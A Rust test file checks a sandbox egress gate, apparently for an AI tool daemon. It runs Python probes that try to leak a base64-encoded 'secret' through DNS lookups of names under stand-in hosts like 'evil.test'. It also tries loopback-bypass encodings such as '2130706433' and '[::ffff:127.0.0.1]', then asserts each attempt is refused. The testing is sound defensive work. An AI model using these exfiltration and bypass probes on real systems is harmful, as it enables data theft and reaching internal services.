//! What a tool can learn or tell by names: a hostile tool in a real sandbox, and a name server that
//! keeps what it was asked.

use serde_json::{Value, json};

use crate::daemon::{Daemon, Setup, code};

#[expect(dead_code, reason = "the tests of the gate use more of it")]
#[path = "../../src/sandbox/egress/tests/server.rs"]
mod server;

use server::NameServer;

/// Tries to reach each of `input`, with and without the proxy, and to ask for it by DNS.
const PROBE: &str = "
import socket, urllib.request, urllib.error
socket.setdefaulttimeout(2)
result = {}
for host, port in input:
    got = []
    for scheme in ('http', 'https'):
        try:
            address = f'{scheme}://{host}:{port}/'
            got.append(urllib.request.urlopen(address, timeout=5).read().decode())
        except Exception as error:
            got.append(type(error).__name__)
    try:
        got.append(socket.getaddrinfo(host, port)[0][4][0])
    except OSError as error:
        got.append('no name')
    for server in ('8.8.8.8', '127.0.0.11', '172.17.0.1'):
        try:
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            udp.sendto(bytes(12) + host.encode(), (server, 53))
            udp.recv(512)
            got.append('an answer')
        except OSError:
            got.append('no way')
    result[host] = got
";

async fn probe(daemon: &Daemon, targets: &[(&str, u16)]) -> Value {
    let input: Vec<_> = targets.iter().map(|(host, port)| json!([host, port])).collect();
    daemon.call("python.run", &json!({ "code": PROBE, "input": input })).await
}

fn with_rules(rules: &str) -> Setup {
    Setup::new()
        .edit("sandbox/python.toml", "egress = []", rules)
        .edit("sandbox/python.toml", "wall = \"3s\"", "wall = \"60s\"")
        // The default policies want a person for a tool that reaches elsewhere.
        .edit("tools/python.run.toml", "risk = \"write\"", "risk = \"read\"")
}

#[tokio::test(flavor = "multi_thread")]
async fn names_that_no_rule_lists_are_asked_for_nowhere() {
    let server = NameServer::fixed(&["127.0.0.1"]);
    let config = format!("[sandbox.gate]\nname_servers = [\"{}\"]", server.address);
    let daemon = with_rules(
        "egress = [{ host = \"api.good.test\", port = 80 }, { host = \"*.files.good.test\", port = 80 }]",
    )
    .config(&config)
    .start()
    .await;
    let hidden = [
        ("c2VjcmV0.evil.test", 80),
        ("c2VjcmV0.good.test", 80),
        ("c2VjcmV0.api.good.test", 80),
        ("a.c2VjcmV0.files.good.test", 80),
        ("api.good.test.evil.test", 80),
        ("api.good.test", 8080),
        ("8.8.8.8", 53),
    ];
    let reply = probe(&daemon, &hidden).await;
    for (host, got) in reply["data"].as_object().unwrap_or_else(|| panic!("{reply:#}")) {
        let got: Vec<_> = got.as_array().unwrap().iter().map(|one| one.as_str().unwrap()).collect();
        assert!(got[0].ends_with("Error") && got[1].ends_with("Error"), "{host}: {got:?}");
        assert!(got[2] == "no name" || got[2] == "8.8.8.8", "{host}: {got:?}");
        assert_eq!(got[3..], ["no way"; 3], "{host}");
    }
    assert_eq!(server.asked(), Vec::<String>::new());

    // A listed name is asked for, by the gate alone, and leads inside, where no rule allows it.
    let reply = probe(&daemon, &[("api.good.test", 80)]).await;
    assert!(!server.asked().is_empty());
    assert!(server.asked().iter().all(|one| one.starts_with("api.good.test ")), "{reply:#}");
    let attempt = &reply["metadata"]["egress"][0];
    assert!(
        attempt["reason"].as_str().unwrap().contains("internal address `127.0.0.1`"),
        "{reply:#}"
    );
    assert_eq!(attempt["address"], Value::Null);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_daemons_own_listeners_are_not_reached_by_accident() {
    let daemon = with_rules("egress = []").start().await;
    let ports = ["metrics", "tcp", "health"].map(|one| daemon.address(one).port());
    let rules: Vec<String> = ports
        .iter()
        .flat_map(|port| {
            ["127.0.0.1", "localhost", "::1"]
                .map(|host| format!("{{ host = \"{host}\", port = {port} }}"))
        })
        .collect();
    let skip = daemon.logged();
    let path = daemon.setup.policies().join("sandbox/python.toml");
    let text = std::fs::read_to_string(&path).unwrap();
    let rules = format!("egress = [{}]", rules.join(", "));
    std::fs::write(&path, text.replace("egress = []", &rules)).unwrap();
    daemon.log_line(skip, "in force");
    let script = "
import urllib.request, urllib.error
result = []
for host in ('127.0.0.1', 'localhost', '[::1]', '2130706433', '[::ffff:127.0.0.1]', '0.0.0.0'):
    for port in input:
        try:
            result.append(urllib.request.urlopen(f'http://{host}:{port}/metrics', timeout=5).status)
        except urllib.error.HTTPError as error:
            result.append(error.code)
";
    let reply = daemon.call("python.run", &json!({ "code": script, "input": ports })).await;
    let got = reply["data"].as_array().unwrap_or_else(|| panic!("{reply:#}"));
    assert!(got.len() == 18 && got.iter().all(|status| *status == 403), "{reply:#}");
    for attempt in reply["metadata"]["egress"].as_array().unwrap() {
        assert_eq!((&attempt["allowed"], &attempt["address"]), (&json!(false), &Value::Null));
        assert!(attempt["reason"].as_str().unwrap().contains("internal address"), "{attempt}");
    }
    assert_eq!(code(&reply), "SUCCESS", "the tool caught each refusal: {reply:#}");
}
